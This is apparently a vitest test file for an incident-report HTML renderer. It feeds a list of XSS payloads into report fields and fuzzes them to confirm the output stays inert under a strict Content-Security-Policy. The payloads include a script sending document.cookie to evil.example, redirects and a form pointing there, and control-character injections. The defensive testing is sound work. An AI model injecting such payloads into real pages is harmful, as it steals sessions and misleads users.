import type { Json } from "@lanyard/contract";
import fc from "fast-check";
import { expect, test } from "vitest";
import { incidentPage } from "../../server/src/cli/incident-page.ts";
import type { IncidentReport } from "../../server/src/edge/api/incident/report.ts";
import { incidentWorld } from "../kits/incident.ts";

// What an agent, a server or a person sent stands in a page that somebody opens at night, in a browser that is logged in elsewhere.

/** Every text of a report replaced, as if all of it were foreign; what is code's own (types of records, effects) stays. */
const withTexts = (value: Json, hostile: string, key = ""): Json => {
  if (typeof value === "string") return ["type", "effect", "status", "kind"].includes(key) ? value : hostile;
  if (Array.isArray(value)) return value.map((item) => withTexts(item, hostile, key));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, withTexts(item, hostile, name)]));
};

const skeleton = (page: string): string => page.replace(/>[^<]*/g, ">");

async function reportOf(text = "plain"): Promise<IncidentReport> {
  const w = await incidentWorld({ reason: text });
  await w.open("ses_1", { purpose: text });
  await w.outcome(await w.call("ses_1", "notes/write", { text, list: [text] }, { policies: [text], resources: [{ type: "Note", id: text }] }), "failed", "denied");
  const asked = await w.call("ses_1", "notes/delete", { text }, { effect: "ask" });
  await w.append({ type: "approval.request", id: "apr_1", of: asked, digest: "d".repeat(43), groups: ["leads"], session: "ses_1", expires_at_ms: 1 } as never);
  await w.append({ type: "approval.deny", id: "apr_1", by: "user:ana", comment: "c".repeat(43), payload: null } as never, { subject: "user:ana", field: "comment", value: text });
  await w.append({ type: "stop.order", id: "stp_1", kind: "quarantine", subject: { kind: "session", name: "ses_1" }, by: "operator", why: text, sessions: 1, cancelled: 0, voided: 0 });
  return w.report("ses_1");
}

const payloads = [
  `<script>fetch("//evil.example/"+document.cookie)</script>`,
  `</style></title><img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `' onmouseover='alert(1)`,
  `<!--`,
  `]]><iframe src="javascript:alert(1)">`,
  `&lt;script&gt;`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<base href="//evil.example">`,
  `</pre></code></td></table><form action="//evil.example"><input name=a>`,
  `\u202eevil\u2066\u200b\u0000\u001b[2J\r\n<b>`,
  `${"${"}process.exit()} \`back\``,
];

test.each(payloads)("agent's words stay words: %j", async (payload) => {
  const page = incidentPage(await reportOf(payload));
  expect(skeleton(page)).toBe(skeleton(incidentPage(await reportOf())));
  expect(page).not.toMatch(/<(?:script|img|svg|iframe|form|input|base|link|object|embed)\b/i);
  expect(page).not.toMatch(/[\u202e\u2066\u200b\u0000\u001b\r]/);
});

test("whatever stands in any text of a report, the page has the same elements and attributes", async () => {
  const report = await reportOf();
  const plain = skeleton(incidentPage(withTexts(report as unknown as Json, "plain") as unknown as IncidentReport));
  const pieces = fc.array(fc.oneof(fc.constantFrom("<", ">", '"', "'", "&", "`", "=", "/", "!--", "-->", "script", " ", "${", "&#60;"), fc.string({ unit: "binary", maxLength: 4 })), { maxLength: 12 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(pieces, (hostile) => {
      const page = incidentPage(withTexts(report as unknown as Json, hostile) as unknown as IncidentReport);
      expect(skeleton(page).replaceAll("<br>", "")).toBe(plain.replaceAll("<br>", "")); // an empty word may leave out its line
    }),
    { numRuns: 300 },
  );
});

test("the page asks for nothing: its own policy forbids scripts, pictures, frames and forms, and allows its one style by hash", async () => {
  const page = incidentPage(await reportOf());
  expect(page).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-[\w+/=]+'; form-action 'none'; base-uri 'none'">/);
  expect(page.match(/\b(?:src|href|action|srcset|on\w+)=/gi)).toBeNull();
  expect(page.match(/url\(|@import/gi)).toBeNull();
});
